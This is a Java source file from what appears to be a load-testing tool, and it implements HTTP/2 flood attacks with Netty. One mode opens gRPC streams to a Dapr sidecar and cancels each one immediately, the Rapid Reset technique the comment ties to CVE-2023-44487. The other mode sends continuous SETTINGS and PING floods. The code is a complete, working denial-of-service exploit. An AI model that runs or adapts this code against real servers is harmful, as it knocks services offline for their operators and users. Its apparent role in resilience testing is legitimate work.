package io.jitney.loadtest.attack;

import io.jitney.loadtest.plan.WorkerPlan.Sidecar;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelHandler;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.util.ReferenceCountUtil;
import java.nio.charset.StandardCharsets;

/**
 * HTTP/2 frames that cost the sender next to nothing: streams that are reset as soon as they are
 * opened (CVE-2023-44487), or SETTINGS and PING frames that want to be acknowledged. As many as the
 * connection takes.
 */
// What fails here ends the connection, and its handler hears of that.
@SuppressWarnings("FutureReturnValueIgnored")
final class FrameFlood implements Connections.Behaviour {
  private static final int BATCH = 100;
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int END_HEADERS = 4;
  private static final int ACK = 1;
  private static final int CANCEL = 8;

  private final Tally tally;
  private final byte[] headers;

  private FrameFlood(Tally tally, byte[] headers) {
    this.tally = tally;
    this.headers = headers;
  }

  static FrameFlood streams(Tally tally, Sidecar sidecar) {
    ByteBuf block = Unpooled.buffer();
    block.writeByte(0x83).writeByte(0x86); // :method POST, :scheme http, of the static table
    literal(block.writeByte(0x04), "/dapr.proto.runtime.v1.Dapr/GetState");
    literal(block.writeByte(0x01), "127.0.0.1:" + sidecar.grpcPort());
    literal(block.writeByte(0x0f).writeByte(0x10), "application/grpc");
    literal(literal(block.writeByte(0x00), "te"), "trailers");
    byte[] bytes = new byte[block.readableBytes()];
    block.readBytes(bytes);
    return new FrameFlood(tally, bytes);
  }

  static FrameFlood frames(Tally tally) {
    return new FrameFlood(tally, new byte[0]);
  }

  private static ByteBuf literal(ByteBuf block, String text) {
    return block.writeByte(text.length()).writeBytes(text.getBytes(StandardCharsets.US_ASCII));
  }

  private static ByteBuf frame(ByteBuf to, int length, int type, int flags, int stream) {
    return to.writeMedium(length).writeByte(type).writeByte(flags).writeInt(stream);
  }

  @Override
  public ChannelHandler next() {
    return new ChannelInboundHandlerAdapter() {
      private int stream = 1;
      private boolean scheduled;

      @Override
      public void channelActive(ChannelHandlerContext context) throws Exception {
        ByteBuf hello = Unpooled.buffer().writeBytes(PREFACE);
        frame(hello, 0, SETTINGS, 0, 0);
        frame(hello, 0, SETTINGS, ACK, 0);
        context.writeAndFlush(hello, context.voidPromise());
        more(context);
        super.channelActive(context);
      }

      private void more(ChannelHandlerContext context) {
        if (!context.channel().isActive()) {
          return;
        }
        if (!context.channel().isWritable()) {
          return; // goes on when it is
        }
        ByteBuf batch = context.alloc().buffer();
        for (int i = 0; i < BATCH; i++) {
          if (headers.length > 0) {
            frame(batch, headers.length, HEADERS, END_HEADERS, stream).writeBytes(headers);
            frame(batch, 4, RST_STREAM, 0, stream).writeInt(CANCEL);
            stream += 2;
          } else {
            frame(batch, 0, SETTINGS, 0, 0);
            frame(batch, 8, PING, 0, 0).writeLong(i);
          }
        }
        tally.add(headers.length > 0 ? "streams reset" : "SETTINGS and PING frames", BATCH);
        context.writeAndFlush(batch, context.voidPromise());
        if (stream < 0) {
          context.close(); // no numbers left
        } else {
          soon(context);
        }
      }

      private void soon(ChannelHandlerContext context) {
        if (!scheduled) {
          scheduled = true;
          context
              .executor()
              .execute(
                  () -> {
                    scheduled = false;
                    more(context);
                  });
        }
      }

      @Override
      public void channelWritabilityChanged(ChannelHandlerContext context) {
        if (context.channel().isWritable()) {
          soon(context);
        }
      }

      @Override
      public void channelRead(ChannelHandlerContext context, Object message) {
        ReferenceCountUtil.release(message);
      }
    };
  }
}
